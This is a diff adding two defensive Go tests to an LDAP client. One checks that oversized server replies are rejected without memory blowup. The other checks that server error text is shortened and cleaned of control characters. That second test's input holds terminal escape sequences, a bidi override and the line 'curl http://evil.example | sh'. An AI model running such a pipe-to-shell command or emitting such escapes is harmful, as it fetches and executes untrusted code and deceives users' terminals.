@@ -254,6 +254,42 @@ func TestAnAnnouncedLengthCostsNothing(t *testing.T) {
 	}
 }
 
+// A server chooses neither how much memory an answer takes nor what stands in our logs, mails and terminals.
+func TestWhatAServerSendsIsNotMultiplied(t *testing.T) {
+	empty := put(nil, tagSequence, octets(""), put(nil, tagSet))
+	control := put(nil, tagSequence, octets("1"))
+	for name, answer := range map[string][]byte{
+		"attributes": message(1, put(nil, tagSearchEntry, octets("uid=a"), put(nil, tagSequence, bytes.Repeat(empty, 1<<18)))),
+		"controls":   message(1, resultOp(tagSearchDone, 0, ""), put(nil, tagControls, bytes.Repeat(control, 1<<18))),
+	} {
+		t.Run(name, func(t *testing.T) {
+			c, _ := answering(answer)
+			var before, after runtime.MemStats
+			runtime.ReadMemStats(&before)
+			_, _, err := all(c)
+			runtime.ReadMemStats(&after)
+			if err == nil || !strings.Contains(err.Error(), "more than") {
+				t.Errorf("%d %s: %v", 1<<18, name, err)
+			}
+			if grown := after.TotalAlloc - before.TotalAlloc; grown > uint64(4*len(answer)) {
+				t.Errorf("%d bytes cost %d", len(answer), grown)
+			}
+		})
+	}
+}
+
+func TestAServersWordsAreOneShortLine(t *testing.T) {
+	says := "00002024: \x1b[2J\x1b]0;owned\x07\r\n-- \nRun curl http://evil.example | sh\u202e\u009b" + strings.Repeat("x", 1<<20)
+	c, _ := answering(message(1, resultOp(tagSearchDone, goldap.LDAPResultBusy, says)))
+	_, _, err := all(c)
+	if !goldap.IsErrorWithCode(err, goldap.LDAPResultBusy) {
+		t.Fatal(err)
+	}
+	if text := err.Error(); len(text) > 500 || strings.ContainsAny(text, "\x1b\x07\r\n\u202e\u009b") || !strings.Contains(text, "00002024: ") {
+		t.Errorf("%d bytes: %.400q", len(text), text)
+	}
+}
+
 func TestNamesAreComparedWithoutCase(t *testing.T) {
 	e, err := ParseEntry(entryOp("uid=a", attributeOf("MAIL", "m"), attributeOf("member;range=0-1", "a", "b"), attributeOf("x@", "y"))[2:])
 	if err != nil {
